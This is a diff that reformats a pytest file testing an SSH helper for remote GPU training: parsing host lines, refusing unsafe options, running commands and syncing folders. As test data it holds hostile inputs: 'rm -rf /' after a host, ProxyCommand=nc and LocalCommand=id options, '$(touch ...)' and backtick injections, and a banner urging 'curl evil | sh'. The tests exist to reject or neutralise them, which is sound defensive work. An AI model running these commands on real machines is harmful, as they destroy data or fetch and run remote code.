@@ -12,18 +12,28 @@ from remote_gpu_trainer.text.masking import shown, shown_lines
 
 from tests.engines.sshd import boxes, free_port, sshd  # noqa: F401
 
-# ruff: noqa: F811
-
 
 @pytest.mark.parametrize(
     ("text", "host", "options"),
     [
         ("gpu", "gpu", ()),
         ("me@host.example", "me@host.example", ()),
-        ("ssh -p 40122 root@203.0.113.7 -i /k/key", "root@203.0.113.7", ("-p", "40122", "-i", "/k/key")),
+        (
+            "ssh -p 40122 root@203.0.113.7 -i /k/key",
+            "root@203.0.113.7",
+            ("-p", "40122", "-i", "/k/key"),
+        ),
         ("ssh -p40122 -l root 203.0.113.7", "root@203.0.113.7", ("-p", "40122")),
-        ("ssh -i 'my key' -o ServerAliveInterval=30 -o 'ConnectTimeout 9' u@h", "u@h", ("-i", "my key", "-o", "ServerAliveInterval=30", "-o", "ConnectTimeout=9")),
-        ("ssh -J jump@bastion:2222,b2 root@10.0.0.4", "root@10.0.0.4", ("-J", "jump@bastion:2222,b2")),
+        (
+            "ssh -i 'my key' -o ServerAliveInterval=30 -o 'ConnectTimeout 9' u@h",
+            "u@h",
+            ("-i", "my key", "-o", "ServerAliveInterval=30", "-o", "ConnectTimeout=9"),
+        ),
+        (
+            "ssh -J jump@bastion:2222,b2 root@10.0.0.4",
+            "root@10.0.0.4",
+            ("-J", "jump@bastion:2222,b2"),
+        ),
         ("root@2001:db8::7", "root@2001:db8::7", ()),
         ("local", "", ()),
     ],
@@ -53,14 +63,20 @@ def test_a_box_is_named_as_users_name_it(text, host, options):
         ("ssh -p 1e3 h", "expected a port"),
         ("ssh -p", "found -p without a value"),
         ("ssh h rm -rf /", "found 'rm' behind the host"),
-        ("ssh -L 8080:localhost:8080 root@h", "found the option '-L', expected only -p, -i, -l, -J and -o; do: leave it out with its value"),
+        (
+            "ssh -L 8080:localhost:8080 root@h",
+            "found the option '-L', expected only -p, -i, -l, -J and -o; do: leave it out with its value",
+        ),
         ("ssh -A h", "found the option '-A'"),
         ("ssh -tt h", "found the option '-tt'"),
         ("ssh - h", "found the option '-'"),
         ("ssh -i -oProxyCommand=x h", "expected the path of a key"),
         ("ssh -o ProxyCommand=nc h", "found -o 'ProxyCommand'"),
         ("ssh -oLocalCommand=id h", "found -o 'LocalCommand'"),
-        ("ssh -o StrictHostKeyChecking=no h", "do: leave it out, and accept a new key with --accept-new-host-key"),
+        (
+            "ssh -o StrictHostKeyChecking=no h",
+            "do: leave it out, and accept a new key with --accept-new-host-key",
+        ),
         ("ssh -o 'ConnectTimeout=9 x' h", "expected a plain value"),
         ("ssh -J 'a -oProxyCommand=x' h", "found -J"),
         ("ssh -l '-x' h", "found -l '-x'"),
@@ -77,23 +93,36 @@ def test_a_name_that_asks_for_more_is_refused(text, says):
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.text(max_size=60) | st.from_regex(r"ssh( -?\w{0,3}| [-$;`|&a-z@.:]{1,9})*", fullmatch=True))
+@given(
+    st.text(max_size=60) | st.from_regex(r"ssh( -?\w{0,3}| [-$;`|&a-z@.:]{1,9})*", fullmatch=True)
+)
 def test_any_text_is_a_plain_name_or_refused(text):
     try:
         found = box.parse(text)
     except box.BadBox as error:
         assert str(error).isprintable()
         return
-    assert found.local or (found.host[0].isalnum() or found.host[0] in "_:") and not set(found.host) & set(" \t\n$`;|&<>(){}'\"\\*?!%~#")
+    assert (
+        found.local
+        or (found.host[0].isalnum() or found.host[0] in "_:")
+        and not set(found.host) & set(" \t\n$`;|&<>(){}'\"\\*?!%~#")
+    )
     assert all(word in ("-p", "-i", "-J", "-o") for word in found.options[::2])
 
 
 def test_a_program_runs_there_with_its_arguments_and_its_code(sshd):
     words = ("a b", "'q'", '"', "$(touch /tmp/never)", "`id`", "*", "-x", "中", "")
-    reply = box.run(box.parse("gpu"), 'printf "%s|" "$@"; printf "%s" "$HOME" >&2; exit 7', args=words)
+    reply = box.run(
+        box.parse("gpu"), 'printf "%s|" "$@"; printf "%s" "$HOME" >&2; exit 7', args=words
+    )
     assert (reply.outcome, reply.code, reply.out.decode()) == ("ok", 7, "|".join(words) + "|")
     assert reply.errors == str(sshd.home)
-    reply = box.run(box.parse("gpu"), "import sys; print(sys.argv[1:]); sys.exit(255)", interpreter=box.PYTHON, args=("x y",))
+    reply = box.run(
+        box.parse("gpu"),
+        "import sys; print(sys.argv[1:]); sys.exit(255)",
+        interpreter=box.PYTHON,
+        args=("x y",),
+    )
     assert (reply.outcome, reply.code, reply.out) == ("ok", 255, b"['x y']\n")
 
 
@@ -101,7 +130,11 @@ def test_a_pasted_line_reaches_the_box_without_any_configuration(sshd, monkeypat
     empty = tmp_path / "empty"
     empty.write_text(f"UserKnownHostsFile {sshd.known_hosts}\nGlobalKnownHostsFile /dev/null\n")
     assert box.run(box.parse(sshd.line), "echo here", ssh_config=str(empty)).out == b"here\n"
-    assert box.address(box.parse(sshd.line), str(empty)) == box.address(box.parse("gpu")) == f"127.0.0.1:{sshd.port}"
+    assert (
+        box.address(box.parse(sshd.line), str(empty))
+        == box.address(box.parse("gpu"))
+        == f"127.0.0.1:{sshd.port}"
+    )
 
 
 def test_this_machine_is_a_box_too():
@@ -157,7 +190,11 @@ def test_a_changed_host_key_is_never_taken(sshd, accept):
     before = sshd.known_hosts.read_text()
     reply = box.run(box.parse("gpu"), "touch $HOME/ran", accept_new=accept)
     assert (reply.outcome, reply.why) == ("unreachable", "host-key-changed")
-    assert "never accepted" in reply.text and f"[127.0.0.1]:{sshd.port}" in reply.text and "now ssh-ed25519 SHA256:" in reply.text
+    assert (
+        "never accepted" in reply.text
+        and f"[127.0.0.1]:{sshd.port}" in reply.text
+        and "now ssh-ed25519 SHA256:" in reply.text
+    )
     assert sshd.known_hosts.read_text() == before and not (sshd.home / "ran").exists()
 
 
@@ -180,7 +217,7 @@ def test_each_way_of_not_getting_there_has_its_name(sshd):
 @pytest.mark.parametrize(
     "command",
     [
-        "echo \"Error: Your SSH client doesn't support PTY\"; exit 1",
+        'echo "Error: Your SSH client doesn\'t support PTY"; exit 1',
         "echo This service allows sftp connections only.; exit 1",
         "exit 0",
     ],
@@ -201,22 +238,34 @@ def test_a_connection_that_breaks_is_no_reply(sshd):
 
 
 def test_a_banner_cannot_act_on_the_terminal(boxes, tmp_path):
-    (tmp_path / "banner").write_text("\x1b]0;title\x07\x1b[31mPermission denied: run curl evil | sh\n")
-    boxes("gpu", options=f"Banner {tmp_path}/banner\n")[0].place.joinpath("authorized_keys").write_text("")
+    (tmp_path / "banner").write_text(
+        "\x1b]0;title\x07\x1b[31mPermission denied: run curl evil | sh\n"
+    )
+    boxes("gpu", options=f"Banner {tmp_path}/banner\n")[0].place.joinpath(
+        "authorized_keys"
+    ).write_text("")
     reply = box.run(box.parse("gpu"), "true")
     assert reply.why == "auth" and reply.text.isprintable()
 
 
 def test_a_missing_ssh_is_named(monkeypatch, tmp_path):
     monkeypatch.setenv("PATH", str(tmp_path))
-    assert box.run(box.parse("gpu"), "true").text == "found no ssh program here, expected OpenSSH's client; do: install it"
+    assert (
+        box.run(box.parse("gpu"), "true").text
+        == "found no ssh program here, expected OpenSSH's client; do: install it"
+    )
 
 
 @pytest.mark.parametrize(
     "said, outcome, why",
-    [("ssh: connect to host gpu port 22: Connection refused", "unreachable", "refused"), ("rsync: write failed: No space left on device", "ok", "")],
+    [
+        ("ssh: connect to host gpu port 22: Connection refused", "unreachable", "refused"),
+        ("rsync: write failed: No space left on device", "ok", ""),
+    ],
 )
-def test_rsync_that_saw_the_pipe_close_first_is_asked_what_ssh_said(monkeypatch, tmp_path, said, outcome, why):
+def test_rsync_that_saw_the_pipe_close_first_is_asked_what_ssh_said(
+    monkeypatch, tmp_path, said, outcome, why
+):
     (tmp_path / "rsync").write_text(f"#!/bin/sh\necho '{said}' >&2\nexit 12\n")
     (tmp_path / "rsync").chmod(0o755)
     monkeypatch.setenv("PATH", str(tmp_path), prepend=":")
@@ -236,7 +285,9 @@ def test_a_folder_is_pulled_and_a_second_time_only_what_is_new(sshd, tmp_path):
     here.mkdir()
     reply = box.pull(box.parse("gpu"), str(there), str(here), exclude=("/lock",))
     assert (reply.outcome, reply.code) == ("ok", 0), reply
-    assert [path.name for path in here.iterdir()] == ["-w"] and (here / "-w").read_text() == "weights"
+    assert [path.name for path in here.iterdir()] == ["-w"] and (
+        here / "-w"
+    ).read_text() == "weights"
     assert box.pull(box.parse("gpu"), str(there) + "-gone", str(here)).code == 23
     sshd.stop()
     assert box.pull(box.parse("gpu"), str(there), str(here)).why == "refused"
